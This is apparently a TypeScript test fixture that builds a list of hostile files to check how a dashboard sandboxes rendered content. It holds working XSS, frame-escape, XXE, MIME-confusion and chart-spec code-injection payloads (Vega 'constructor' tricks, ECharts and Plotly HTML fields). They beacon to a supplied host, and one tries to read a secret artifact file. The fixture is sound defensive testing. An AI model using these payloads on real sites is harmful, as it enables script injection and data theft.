/** A file whose author wants more of the dashboard than to be looked at. */
export interface HostileFile {
  name: string;
  kind: 'html' | 'image' | 'text' | 'echarts' | 'vegaLite' | 'plotly' | 'file' | 'audio';
  mediaType: string;
  content: string;
}

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"';

/**
 * Ways to run a script, to fetch something, to leave the frame or to be taken for another type.
 * @param home Address that each of them reports to, if it can.
 */
export function hostileFiles(home: string): HostileFile[] {
  const script = `fetch('${home}/fetched'); new Image().src='${home}/seen'; top.document.title='taken'; parent.postMessage('taken', '*')`;
  const html = (name: string, content: string): HostileFile => ({
    ...{ name: `html/${name}`, kind: 'html', mediaType: 'text/html', content },
  });
  const svg = (name: string, content: string): HostileFile => ({
    ...{ name: `svg/${name}`, kind: 'image', mediaType: 'image/svg+xml', content: `<svg ${SVG}>${content}</svg>` },
  });
  const chart = (kind: 'vegaLite' | 'plotly', name: string, spec: object): HostileFile => ({
    ...{ name: `${kind}/${name}`, kind, mediaType: 'application/json', content: JSON.stringify(spec) },
  });
  return [
    html('script', `<p>hello</p><script>${script}</script>`),
    html(
      'handlers',
      `<body onload="${script}"><img src=x onerror="${script}"><svg onload="${script}"></svg><input autofocus onfocus="${script}">`,
    ),
    html('refresh', `<meta http-equiv="refresh" content="0;url=${home}/refreshed"><p>wait</p>`),
    html('link', `<a id="go" href="javascript:${script}">click</a>`),
    html(
      'top',
      `<a id="go" target="_top" href="${home}/top">click</a><a id="go2" target="_blank" href="${home}/blank">click</a>`,
    ),
    html('away', `<a id="go" href="${home}/away">click</a>`),
    html(
      'form',
      `<form id="f" action="${home}/posted" method="post"><button id="go" name="a" value="b">send</button></form>`,
    ),
    html(
      'own form',
      '<form action="/graphql" method="post" enctype="text/plain"><button id="go" name="{" value="}">send</button></form>',
    ),
    html(
      'styles',
      `<style>@import url("${home}/imported.css"); body { background: url("${home}/background.png") }</style><link rel="stylesheet" href="${home}/linked.css"><p>styled</p>`,
    ),
    html(
      'frames',
      `<iframe src="${home}/frame"></iframe><object data="${home}/object"></object><embed src="${home}/embed"><iframe srcdoc="<script>${script}</script>"></iframe>`,
    ),
    html(
      'data',
      `<iframe src="data:text/html,<script>${script}</script>"></iframe><a id="go" href="data:text/html,<script>${script}</script>">click</a>`,
    ),
    html(
      'media',
      `<video src="${home}/video" autoplay></video><audio src="${home}/audio" autoplay></audio><img src="${home}/image" srcset="${home}/image2 2x">`,
    ),
    html('base', `<base href="${home}/"><img src="based.png"><a id="go" ping="${home}/pinged" href="#">click</a>`),
    html(
      'prefetch',
      `<link rel="prefetch" href="${home}/prefetched"><link rel="preload" as="image" href="${home}/preloaded"><link rel="icon" href="${home}/icon"><link rel="manifest" href="${home}/manifest">`,
    ),
    html(
      'worker',
      `<script>navigator.serviceWorker.register('/media/worker.js'); new Worker('data:text/javascript,fetch("${home}/worker")')</script>`,
    ),
    html(
      'own reading',
      `<img src="/artifacts/1/secret.txt"><link rel="stylesheet" href="/assets/any.css"><iframe src="/"></iframe><script src="/clients/warren.py"></script>`,
    ),
    svg('script', `<script>${script}</script><rect width="40" height="40" onclick="${script}" onload="${script}"/>`),
    svg(
      'foreign',
      `<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${home}/foreign"></iframe><body xmlns="http://www.w3.org/1999/xhtml" onload="${script}"/></foreignObject>`,
    ),
    svg(
      'links',
      `<image xlink:href="${home}/svg-image" width="9" height="9"/><use xlink:href="${home}/use.svg#a"/><a xlink:href="javascript:${script}"><rect width="40" height="40"/></a><style>@import "${home}/svg.css";</style>`,
    ),
    {
      name: 'mixed/xml with entities',
      kind: 'image',
      mediaType: 'image/svg+xml',
      content: `<!DOCTYPE svg [<!ENTITY x SYSTEM "${home}/entity">]><svg ${SVG}>&x;<set attributeName="onmouseover" to="${script}"/></svg>`,
    },
    { name: 'mixed/page as picture', kind: 'image', mediaType: 'image/png', content: `<script>${script}</script>` },
    {
      name: 'mixed/gif and script',
      kind: 'image',
      mediaType: 'image/gif',
      content: `GIF89a=1;${script}/*<script>${script}</script>*/`,
    },
    { name: 'mixed/page as text', kind: 'text', mediaType: 'text/plain', content: `<html><script>${script}</script>` },
    {
      name: 'mixed/page of no type',
      kind: 'file',
      mediaType: 'application/xhtml+xml',
      content: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
    },
    { name: 'mixed/script', kind: 'file', mediaType: 'text/javascript', content: script },
    { name: 'mixed/page as sound', kind: 'audio', mediaType: 'text/html', content: `<script>${script}</script>` },
    {
      ...{ name: 'mixed/chart', kind: 'echarts', mediaType: 'application/json' },
      content: JSON.stringify({
        title: { text: 'x', link: `javascript:${script}`, sublink: `${home}/sublink` },
        tooltip: { show: true, alwaysShowContent: true, formatter: `<img src=x onerror="${script}">` },
        graphic: { type: 'image', style: { image: `${home}/graphic` } },
        xAxis: {},
        yAxis: {},
        series: [{ type: 'scatter', symbol: `image://${home}/symbol`, data: [[1, 2]] }],
      }),
    },
    chart('vegaLite', 'data', { data: { url: `${home}/vega-data.json` }, mark: 'point' }),
    chart('vegaLite', 'picture', {
      data: { values: [{ x: 1, picture: `${home}/vega-picture.png`, link: `javascript:${script}` }] },
      mark: { type: 'image', width: 300, height: 200 },
      encoding: { x: { field: 'x' }, url: { field: 'picture' }, href: { field: 'link' } },
    }),
    chart('vegaLite', 'expression', {
      data: { values: [{ x: 1 }] },
      transform: [{ calculate: `constructor.constructor("${script}")()`, as: 'y' }],
      mark: 'point',
    }),
    chart('vegaLite', 'signal', {
      $schema: 'https://vega.github.io/schema/vega/v6.json',
      signals: [
        { name: 'a', update: `(function(){}).constructor("${script}")()` },
        { name: 'b', update: 'toString.constructor' },
      ],
      data: [{ name: 'd', url: `${home}/vega-table.csv`, format: { type: 'csv' } }],
      marks: [
        {
          type: 'text',
          encode: {
            enter: { text: { value: `<img src=x onerror="${script}">` }, href: { value: `${home}/vega-link` } },
          },
        },
      ],
    }),
    chart('plotly', 'texts', {
      data: [
        { x: [1], y: [2], text: [`<a href="javascript:${script}">t</a><img src=x onerror="${script}">`], mode: 'text' },
      ],
      layout: {
        title: { text: `<a href="${home}/plotly-link" target="_top">x</a><script>${script}</script>` },
        images: [{ source: `${home}/plotly-image`, xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 1, sizey: 1 }],
        annotations: [{ text: `<a href="${home}/plotly-note">n</a>`, x: 1, y: 2 }],
      },
      config: { plotlyServerURL: home, topojsonURL: home, editable: true, sendData: true },
      frames: [{ layout: { title: script } }],
    }),
    chart('plotly', 'image trace', {
      data: [
        { type: 'image', source: `${home}/plotly-source` },
        { type: 'scattergeo', lon: [1], lat: [1] },
      ],
    }),
  ];
}
